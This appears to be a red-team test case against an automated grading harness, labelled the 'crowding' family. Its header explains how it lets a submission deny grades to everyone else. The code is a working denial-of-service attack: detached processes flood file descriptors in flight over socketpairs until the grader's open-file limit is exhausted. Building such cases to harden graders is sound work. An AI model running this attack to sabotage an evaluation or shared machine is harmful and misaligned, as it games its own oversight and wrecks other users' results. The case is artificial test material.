# family = "crowding"
# tries = "As many descriptors as possible are in flight while checks run: each socket in flight holds more of them, and a process for each processor tries again and again, so that several get past the limit at once."
# could_earn = "Everybody else's grades, and a check of one's own that cannot be made."
# undefended = "Honest students could not be checked and had zero points, in one batch with descriptors_in_flight, where the grader was an ordinary user with a soft limit of 1,024 open files."
# boxed_only = true

# %% extra
import socket
import subprocess
import sys

FILLER = """
import array, os, socket, threading, time

def fill():
    kept = []
    while True:
        try:
            a, b = socket.socketpair()
            c, d = socket.socketpair()
            kept.append((a, c))
            fds = array.array("i", [d.fileno()] * 250).tobytes()
            for _ in range(8):
                b.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)], socket.MSG_DONTWAIT)
            a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)], socket.MSG_DONTWAIT)
        except OSError:
            time.sleep(0.005)

for _ in range(16):
    threading.Thread(target=fill).start()
"""
fillers = [subprocess.Popen([sys.executable, "-S", "-c", FILLER, "<<mark>>"], start_new_session=True) for _ in range(2)]
